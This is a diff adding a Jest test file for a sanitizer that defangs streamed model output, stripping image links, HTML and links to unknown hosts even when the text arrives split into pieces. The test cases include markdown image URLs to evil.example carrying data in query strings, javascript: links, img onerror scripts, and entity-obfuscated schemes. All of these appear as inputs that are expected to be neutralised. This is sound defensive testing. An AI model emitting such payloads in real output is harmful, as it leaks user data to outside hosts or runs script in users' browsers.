@@ -1,0 +1,86 @@
+import { HarmlessText } from './harmless-text';
+import { KnownAddresses } from './known-addresses';
+
+const KNOWN = new KnownAddresses([
+  'The tariff is at https://harbour.example/tariff. Mail ops@harbour.example, see (https://harbour.example/a_(b)).',
+]);
+
+/** What is said of a text that comes in pieces of so many characters. */
+function said(text: string, size = text.length || 1): string {
+  const harmless = new HarmlessText(KNOWN);
+  let all = '';
+  for (let at = 0; at < text.length; at += size) all += harmless.take(text.slice(at, at + size));
+  return all + harmless.rest();
+}
+
+const CASES: readonly [string, string][] = [
+  ['Plain words, 2 < 3 [1], [a] and a[i](x).', 'Plain words, 2 < 3 [1], [a] and a[i](x).'],
+  ['It costs 12 euros. [1]', 'It costs 12 euros. [1]'],
+  ['Wow!', 'Wow!'],
+  ['See [the tariff](https://harbour.example/tariff).', 'See [the tariff](https://harbour.example/tariff).'],
+  ['[mail](mailto:ops@harbour.example)', '[mail](mailto:ops@harbour.example)'],
+  ['[b](https://harbour.example/a_(b))', '[b](https://harbour.example/a_(b))'],
+  ['[file](/files/1) and [top](#top)', '[file](/files/1) and [top](#top)'],
+  ['![berth](https://harbour.example/tariff)', '![berth](https://harbour.example/tariff)'],
+  ['A ![berth](http://evil.example/?d=4711) b', 'A berth b'],
+  ['![](http://evil.example/?d=4711)', ''],
+  ['![a](<http://evil.example/?d=4711> "title")', 'a'],
+  ['![a](//evil.example/?d=4711)', 'a'],
+  ['![a](&#104;ttp://evil.example/)', 'a'],
+  ['![a](data:image/svg+xml,x)', 'a'],
+  ['![a\n](\nhttp://evil.example/)', 'a\n'],
+  ['[more](http://evil.example/?d=4711)', 'more (`http://evil.example/?d=4711`)'],
+  ['[more](https://harbour.example/tariff?d=4711)', 'more (`https://harbour.example/tariff?d=4711`)'],
+  ['[more](https://harbour.example/tar)', 'more (`https://harbour.example/tar`)'],
+  ['[run](javascript:alert(1))', 'run'],
+  ['[run](java&#115;cript&colon;alert(1))', 'run'],
+  ['[![a](http://evil.example/1)](http://evil.example/2)', 'a (`http://evil.example/2`)'],
+  ['![a][x]\n\n[x]: http://evil.example/?d=4711\n', '![a][x]\n\nx: (`http://evil.example/?d=4711`)\n'],
+  ['<http://evil.example/?d=4711>', '`http://evil.example/?d=4711`'],
+  ['<https://harbour.example/tariff>', '<https://harbour.example/tariff>'],
+  ['a <b>bold</b> word', 'a <b>bold</b> word'],
+  ['<img src="http://evil.example/?d=4711" alt="berth">', 'berth'],
+  ['<img src=x onerror=alert(1)>', ''],
+  ['<img src="https://harbour.example/tariff" onerror="alert(1)" alt="berth">', 'berth'],
+  ['<a href="javascript:alert(1)">run</a>', 'run</a>'],
+  ['<iframe src="http://evil.example"></iframe>', ''],
+  ['<div style="background:url(http://evil.example)">x</div>', 'x</div>'],
+  ['<pre>\n\n<img\n\nsrc=http://evil.example>', '<pre>\n\n'],
+  ['![a](http://evil.example/?d=47', '![a] (http://evil.example/?d=47'],
+  ['<img src=http://evil.example ', '&lt;img src=http://evil.example '],
+];
+
+describe('what a model says', () => {
+  it.each(CASES)('%j becomes %j', (text, expected) => {
+    expect(said(text)).toBe(expected);
+  });
+
+  it('becomes the same in whatever pieces it comes', () => {
+    for (const [text] of CASES) for (const size of [1, 2, 3, 7]) expect(said(text, size)).toBe(said(text));
+  });
+
+  it('is sent on as soon as it cannot become an address', () => {
+    const harmless = new HarmlessText(KNOWN);
+    expect(harmless.take('It costs ')).toBe('It costs ');
+    expect(harmless.take('12 euros [')).toBe('12 euros ');
+    expect(harmless.take('1')).toBe('');
+    expect(harmless.take(']')).toBe('');
+    expect(harmless.take(' a day ![berth](http://evil')).toBe('[1] a day ');
+    expect(harmless.take('.example/?d=1) and')).toBe('berth and');
+  });
+
+  it('is not held back without end, and does not become an address then', () => {
+    const harmless = new HarmlessText(KNOWN);
+    const long = harmless.take(`![${'x'.repeat(5_000)}`) + harmless.take('](http://evil.example/)') + harmless.rest();
+    expect(long).toHaveLength(5_000 + 3 + '](http://evil.example/)'.length);
+    expect(long.startsWith('!\\[x')).toBe(true);
+  });
+
+  it('takes time by its length, however many brackets are in it', () => {
+    const harmless = new HarmlessText(KNOWN);
+    const began = process.cpuUsage();
+    for (let at = 0; at < 5_000; at++) harmless.take('[<![('.repeat(4));
+    harmless.rest();
+    expect(process.cpuUsage(began).user).toBeLessThan(10_000_000);
+  });
+});
